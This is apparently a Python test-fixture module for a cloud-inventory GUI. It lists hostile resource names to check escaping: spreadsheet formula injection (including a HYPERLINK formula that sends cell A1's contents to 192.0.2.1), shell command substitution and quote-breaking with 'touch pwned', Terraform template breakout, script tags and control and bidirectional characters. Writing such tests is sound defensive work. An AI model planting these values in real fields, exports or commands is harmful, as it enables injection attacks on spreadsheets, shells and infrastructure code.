"""Names that try to break out of whatever they are written into, and a region full of them."""

from dataclasses import replace
from datetime import UTC, datetime
from ipaddress import IPv4Address

from gui.domain.cloud.eip import EipGateway
from gui.domain.cloud.eni import EniStatus
from gui.domain.cloud.errors import CloudError, CloudErrorKind
from gui.domain.cloud.inventory import Inventory, ListName, Unread
from tests.helpers.toy_cloud import ENI, INSTANCE, REGION, bound_eip, eni, free_eip, instance

NAMES: tuple[str, ...] = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "+1-2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "'quoted'",
    'say "hello", \\ and \\" go',
    "$(touch pwned)",
    "`touch pwned`",
    "'; touch pwned; '",
    '"; touch pwned; "',
    "\ntouch pwned\n",
    "${var.x} %{ if true } $${x} %%{y}",
    '"\n}\nresource "null_resource" "x" {\n',
    "| cell | [link](http://192.0.2.1) <script>alert(1)</script> ![x](y)",
    "**bold** _em_ `code` ~~no~~ # 1. - + http://192.0.2.1 www.example.org a@example.org &amp; :smile:",
    "a\\",
    "a\\|b",
    "\x00\x1b[31mred\x07",
    "left\u202eright\u2066",
    "\u2028line\u2029\x85end",
    "\ud800lone",
    "语音网关 العربية e\u0301 👨\u200d👩",
    "x" * 10_000,
    "",
)


def region_of(names: tuple[str, ...] = NAMES) -> Inventory:
    """Return a region whose EIPs, two on an interface and the others free, have ``names``, and all else too."""
    bound = (bound_eip(1), replace(bound_eip(2), private_address=IPv4Address("10.0.0.5"), bandwidth=5))
    free = tuple(free_eip(number) for number in range(3, len(names) + 1))
    eips = tuple(replace(eip, name=name) for eip, name in zip((*bound, *free), names, strict=True))
    worst = "".join(names[:-1])
    return Inventory(
        REGION,
        datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        eips,
        (replace(eni(EniStatus.IN_USE, INSTANCE), name=worst, secondary_addresses=(IPv4Address("10.0.0.6"),)),),
        (replace(instance(), name=worst, os_name=worst),),
        unread=(Unread(ListName.VPCS, CloudError(CloudErrorKind.DENIED, "Forbidden.RAM")),),
    )


GATEWAYS = {ENI: (EipGateway(IPv4Address("47.0.0.1"), "255.255.255.0", IPv4Address("47.0.0.254")),)}
